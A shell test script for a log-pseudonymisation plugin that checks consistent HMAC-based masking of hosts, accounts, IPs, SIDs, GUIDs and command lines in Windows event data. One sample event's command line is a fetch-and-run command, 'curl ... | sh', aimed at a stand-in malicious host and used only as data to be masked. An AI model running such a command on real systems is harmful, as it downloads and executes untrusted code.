#!/bin/sh
# plugins/mask/test_mask.sh -- the mask analyzer end to end through the CLI,
# with the host's real IP classifier.  Properties of the output (same
# subnet, private ranges, global stays global, SID and GUID forms) are
# checked with Python's csv and ipaddress modules; exact pseudonyms of
# names come from Python's hmac (HMAC-SHA256, see test_mask_core.c).
. "$HK_SRCDIR/tests/lib.sh"
[ -n "$PYTHON3" ] || skip_all "python3 is needed to check the output"

cat >"$T/in.csv" <<'EOF'
EventID,Computer,Account,IpAddress,SubjectUserSid,TenantId,Email,CommandLine
4624,WS01.contoso.com,CONTOSO\alice,10.1.2.3,S-1-5-21-2079883792-3656946353-945924832-1104,802d39e1-9d70-404d-832c-2de5e2478eda,alice@contoso.com,"net use \\FS01\share /user:CONTOSO\alice & ping 172.16.5.4"
4624,WS02.contoso.com,NT AUTHORITY\SYSTEM,10.1.2.200,S-1-5-18,802D39E1-9D70-404D-832C-2DE5E2478EDA,bob@contoso.com,C:\Users\bob\AppData\Local\Temp\a.exe -c 8.8.8.8
4625,WS01,alice@contoso.com,172.16.9.9,S-1-5-21-2079883792-3656946353-945924832-500,{802d39e1-9d70-404d-832c-2de5e2478eda},x,logon from WS01 and WS01$ at 10:22:33
4625,ws03.contoso.com,CONTOSO\WS01$,172.32.1.1,S-1-5-32-544,00000000-0000-0000-0000-000000000000,,curl http://evil.example.com/a | sh
4625,srv.corp,-,8.8.8.8,S-1-12-1-1234567-2345678-3456789-4567890,5e80300e-fd65-46c9-9b49-9663788a704d,carol@example.org,ssh 2a00:1450:4001:82a::200e
4625,localhost,root,127.0.0.1,,,,
4625,WS04,guest,192.168.7.10,,,,
4625,WS05,svc_sql,2a00:1450:4001:82a::1,,,,
4625,WS06,CONTOSO\Administrator,fd12:3456:789a:1::42,,,,
4625,WS07,dave,2a00:1450:4001:82a::200e,,,,
EOF
KINDS="host=Computer account=Account ip=IpAddress sid=SubjectUserSid guid=TenantId email=Email text=CommandLine"

hk run "file path=$T/in.csv | mask key=correct-horse $KINDS | csv"
is "$rc" 0 "exit status"
printf '%s\n' "$out" >"$T/a.csv"
hk run "file path=$T/in.csv | mask key=correct-horse $KINDS | csv"
printf '%s\n' "$out" >"$T/b.csv"
is "$(cat "$T/b.csv")" "$(cat "$T/a.csv")" "same key: the same output on a second run"
HK_TEST_MASK_KEY=correct-horse hk run "file path=$T/in.csv | mask key=\${env:HK_TEST_MASK_KEY} $KINDS | csv"
is "$out" "$(cat "$T/a.csv")" "key from \${env:...}: the same output"
unlike "$err" "correct-horse" "the key never appears on stderr"
mkdir -p "$T/conf/conf.d"
cat >"$T/conf/conf.d/mask.yaml" <<'EOF'
plugin: mask
instance: shared
config:
  key: ${env:HK_TEST_MASK_KEY}
EOF
HUNTKIT_CONFIG="$T/conf" HK_TEST_MASK_KEY=correct-horse hk run "file path=$T/in.csv | mask:shared $KINDS | csv"
is "$out" "$(cat "$T/a.csv")" "key from the instance config: the same output"
unlike "$err" "generated key" "an instance key is used, none generated"
hk run "file path=$T/in.csv | mask key=another-key $KINDS | csv"
printf '%s\n' "$out" >"$T/c.csv"

# cmp A B: the columns whose values differ in some row
cmp_cols() {
  "$PYTHON3" - "$1" "$2" <<'PY'
import csv, sys
a = list(csv.DictReader(open(sys.argv[1], newline="")))
b = list(csv.DictReader(open(sys.argv[2], newline="")))
cols = [c for c in a[0] if any(x[c] != y[c] for x, y in zip(a, b))]
print(" ".join(cols))
PY
}
is "$(cmp_cols "$T/in.csv" "$T/a.csv")" \
  "Computer Account IpAddress SubjectUserSid TenantId Email CommandLine" \
  "every named column is masked, EventID is not"
is "$(cmp_cols "$T/a.csv" "$T/c.csv")" \
  "Computer Account IpAddress SubjectUserSid TenantId Email CommandLine" \
  "another key masks every column differently"

# Row by row, what must hold whatever the key.
"$PYTHON3" - "$T/in.csv" "$T/a.csv" >"$T/props" <<'PY'
import csv, ipaddress, re, sys
src = list(csv.DictReader(open(sys.argv[1], newline="")))
out = list(csv.DictReader(open(sys.argv[2], newline="")))
ip = lambda r: ipaddress.ip_address(r["IpAddress"])
o = [ipaddress.ip_address(r["IpAddress"]) for r in out]
net24 = lambda a: ipaddress.ip_network(f"{a}/24", strict=False)
print("same /24 -> same masked /24:", net24(o[0]) == net24(o[1]), o[0] != o[1])
print("10/8 stays in 10/8:", o[0] in ipaddress.ip_network("10.0.0.0/8"))
print("172.16.9.9 stays in 172.16/12:", o[2] in ipaddress.ip_network("172.16.0.0/12"), o[2] != ip(src[2]))
print("172.32.1.1 is global, stays global:", o[3].is_global, not o[3].is_private, o[3] != ip(src[3]))
print("8.8.8.8 stays global:", o[4].is_global, str(o[4]) != "8.8.8.8")
print("127.0.0.1 kept:", str(o[5]))
print("192.168/16 stays:", o[6] in ipaddress.ip_network("192.168.0.0/16"))
net64 = lambda a: ipaddress.ip_network(f"{a}/64", strict=False)
print("same /64 -> same masked /64:", net64(o[7]) == net64(o[9]), o[7] != o[9])
print("global IPv6 stays global:", o[7].is_global, str(o[7]) != "2a00:1450:4001:82a::1")
print("unique-local stays in fc00::/7:", o[8] in ipaddress.ip_network("fc00::/7"))
sid = [r["SubjectUserSid"] for r in out]
m0 = re.fullmatch(r"S-1-5-21-(\d+)-(\d+)-(\d+)-(\d+)", sid[0])
m2 = re.fullmatch(r"S-1-5-21-(\d+)-(\d+)-(\d+)-(\d+)", sid[2])
print("SID form kept:", bool(m0 and m2), all(int(x) < 2**32 for x in m0.groups()))
print("same domain SID:", m0.groups()[:3] == m2.groups()[:3], m0.group(1) != "2079883792")
print("RID 500 kept, RID 1104 masked to >= 1000:", m2.group(4), int(m0.group(4)) >= 1000 and m0.group(4) != "1104")
print("well-known SIDs kept:", sid[1], sid[3])
print("Azure AD SID:", sid[4].startswith("S-1-12-1-"), sid[4] != src[4]["SubjectUserSid"])
g = [r["TenantId"] for r in out]
hexof = lambda s: re.sub(r"[^0-9a-f]", "", s.lower())
print("GUID forms kept:", bool(re.fullmatch(r"[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}", g[0])),
      bool(re.fullmatch(r"[0-9A-F]{8}(-[0-9A-F]{4}){3}-[0-9A-F]{12}", g[1])), g[2][0] + g[2][-1])
print("one GUID, three spellings, one pseudonym:", hexof(g[0]) == hexof(g[1]) == hexof(g[2]))
print("nil GUID kept:", g[3])
PY
is "$(cat "$T/props")" "same /24 -> same masked /24: True True
10/8 stays in 10/8: True
172.16.9.9 stays in 172.16/12: True True
172.32.1.1 is global, stays global: True True True
8.8.8.8 stays global: True True
127.0.0.1 kept: 127.0.0.1
192.168/16 stays: True
same /64 -> same masked /64: True True
global IPv6 stays global: True True
unique-local stays in fc00::/7: True
SID form kept: True True
same domain SID: True True
RID 500 kept, RID 1104 masked to >= 1000: 500 True
well-known SIDs kept: S-1-5-18 S-1-5-32-544
Azure AD SID: True True
GUID forms kept: True True {}
one GUID, three spellings, one pseudonym: True
nil GUID kept: 00000000-0000-0000-0000-000000000000" "IPs, SIDs and GUIDs keep their structure"

# Names: exact pseudonyms under key=correct-horse (Python's hmac), the
# same in every column and inside the text.
"$PYTHON3" - "$T/a.csv" >"$T/names" <<'PY'
import csv, hashlib, hmac, struct, sys
def name(s, key=b"correct-horse"):
    low, out, used, blk = s.lower().encode(), [], 32, 0
    for ch in s:
        if not ch.isalnum():
            out.append(ch); continue
        if used == 32:
            st = hmac.new(key, b"name\0" + low + struct.pack("<I", blk), hashlib.sha256).digest()
            blk, used = blk + 1, 0
        b = st[used]; used += 1
        out.append(chr(48 + b % 10) if ch.isdigit() else chr((65 if ch.isupper() else 97) + b % 26))
    return "".join(out)
ws01, contoso, alice, fs01 = name("WS01"), name("contoso"), name("alice"), name("FS01")
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
want = [
    ("Computer", 0, f"{ws01}.{contoso}.com"),
    ("Account", 0, f"{contoso.upper()}\\{alice}"),
    ("Email", 0, f"{alice}@{contoso}.com"),
    ("Computer", 2, ws01),
    ("Account", 2, f"{alice}@{contoso}.com"),
    ("Account", 3, f"{contoso.upper()}\\{ws01}$"),
    ("Account", 1, "NT AUTHORITY\\SYSTEM"),
    ("Account", 5, "root"),
    ("Computer", 5, "localhost"),
    ("Computer", 4, name("srv") + ".corp"),
    ("Account", 8, f"{contoso.upper()}\\Administrator"),
]
for col, i, w in want:
    print(col, i, rows[i][col] == w, rows[i][col] if rows[i][col] != w else "")
t = [r["CommandLine"] for r in rows]
print("text 0:", t[0].startswith(f"net use \\\\{fs01}\\share /user:{contoso.upper()}\\{alice} & ping 172."), "172.16.5.4" not in t[0])
print("text 1:", t[1].startswith(f"C:\\Users\\{name('bob')}\\AppData\\Local\\Temp\\a.exe -c "), "8.8.8.8" not in t[1])
print("text 2:", t[2] == f"logon from {ws01} and {ws01}$ at 10:22:33")
print("text 3:", t[3] == f"curl http://{name('evil')}.{name('example')}.com/a | sh")
PY
is "$(cat "$T/names")" "Computer 0 True 
Account 0 True 
Email 0 True 
Computer 2 True 
Account 2 True 
Account 3 True 
Account 1 True 
Account 5 True 
Computer 5 True 
Computer 4 True 
Account 8 True 
text 0: True True
text 1: True True
text 2: True
text 3: True" "names: exact pseudonyms, consistent across columns and text"

# No key: a random one, reported once; passing it back reproduces the output.
hk run "file path=$T/in.csv | mask $KINDS | csv"
is "$rc" 0 "generated key: exit status"
printf '%s\n' "$out" >"$T/g.csv"
key=$(printf '%s\n' "$err" | sed -n 's/.*generated key \([0-9a-f]\{64\}\);.*/\1/p')
is "${#key}" 64 "generated key reported as 64 hex digits"
is "$(printf '%s\n' "$err" | grep -c 'generated key')" 1 "reported once"
hk run "file path=$T/in.csv | mask key=$key $KINDS | csv"
is "$out" "$(cat "$T/g.csv")" "the reported key reproduces the masking"
unlike "$err" "generated key" "a given key is never printed"

# No column named: MSTICPy-like defaults by column name.
hk run "file path=$DATA/msticpy/processes_on_host.csv | mask key=k | csv"
is "$rc" 0 "defaults on processes_on_host.csv"
printf '%s\n' "$out" >"$T/d.csv"
hk run "file path=$DATA/msticpy/processes_on_host.csv | csv"
printf '%s\n' "$out" >"$T/src.csv"
is "$(cmp_cols "$T/src.csv" "$T/d.csv")" \
  "TenantId Account Computer SubjectUserSid SubjectUserName SubjectDomainName CommandLine SourceComputerId" \
  "default columns masked, the others untouched"
hk run "file path=$T/in.csv | mask key=k null=Email,EventID | select EventID, Email | csv"
is "$out" 'EventID,Email
,
,
,
,
,
,
,
,
,
,' "null= empties columns of any type"

# Errors.
hk run "file path=$T/in.csv | mask key=k host=Nope | csv"
is "$rc" 1 "unknown column fails"
like "$err" "mask: host: no column 'Nope' (columns: EventID, Computer, Account" "names the columns"
hk run "file path=$T/in.csv | mask key=k host=Computer ip=Computer | csv"
like "$err" "mask: column 'Computer' is given as both host and ip" "a column under two kinds"
hk run "file path=$T/in.csv | mask key=k ip=EventID | csv"
like "$err" "mask: column 'EventID' is int64, not text: only null=EventID applies to it" "non-text column"
hk run "file path=$T/in.csv | select EventID | mask key=k | csv"
like "$err" "mask: nothing to mask" "nothing to mask"
hk run "file path=$T/in.csv | mask key= host=Computer | csv"
like "$err" "mask: key is empty" "empty key refused"

done_testing
